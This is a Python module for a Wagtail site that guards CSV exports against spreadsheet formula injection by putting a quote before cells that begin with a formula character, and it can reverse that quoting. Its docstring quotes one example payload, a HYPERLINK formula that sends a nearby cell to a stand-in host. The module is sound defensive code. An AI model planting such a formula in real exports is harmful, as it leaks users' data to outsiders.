"""Spreadsheet exports that cannot carry a formula.

A spreadsheet opening a CSV file runs a cell that starts with `=`, `+`, `-` or `@` (and, in some,
a tab or a carriage return) as a formula: a public registration named
`=HYPERLINK("http://x.test/?"&C2;"ok")` would send the next cell to a stranger when an editor
opens the export. Wagtail's XLSX export already stores such cells as text; its CSV export writes
them as they are.

`safe_cell(value)` prefixes such a text cell with `'` (spreadsheets show the rest as text).
Numbers typed as numbers (int, Decimal, float, dates) are left alone. The prefix is reversible:
`unquote_cell(safe_cell(text)) == text` for every text — a text that already starts with `'`
followed by one of those characters (or by another `'`) gets one more `'` — so an export can be
read back unchanged (the register's import does).

`SafeCsvExportMixin` goes before `ReportView` (or any `SpreadsheetExportMixin` view) and passes
every CSV cell through `safe_cell`, after Wagtail's own preprocessing.
"""

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def _is_quoted(text):
    return len(text) > 1 and text[0] == QUOTE and text[1] in (*FORMULA_STARTS, QUOTE)


def safe_cell(value):
    """The cell as a spreadsheet will read it as text: `'` before a text that a spreadsheet
    would take for a formula. Anything but a text is returned as it is."""
    if isinstance(value, str) and value and (value.startswith(FORMULA_STARTS) or _is_quoted(value)):
        return QUOTE + value
    return value


def unquote_cell(value):
    """The text `safe_cell` was given: one leading `'` removed when `safe_cell` added it."""
    if isinstance(value, str) and _is_quoted(value):
        return value[1:]
    return value


class SafeCsvExportMixin:
    """Put before `ReportView`: every cell of the CSV export goes through `safe_cell`."""

    def preprocess_field_value(self, field, value, export_format):
        value = super().preprocess_field_value(field, value, export_format)
        if export_format == self.FORMAT_CSV:
            return safe_cell(value)
        return value
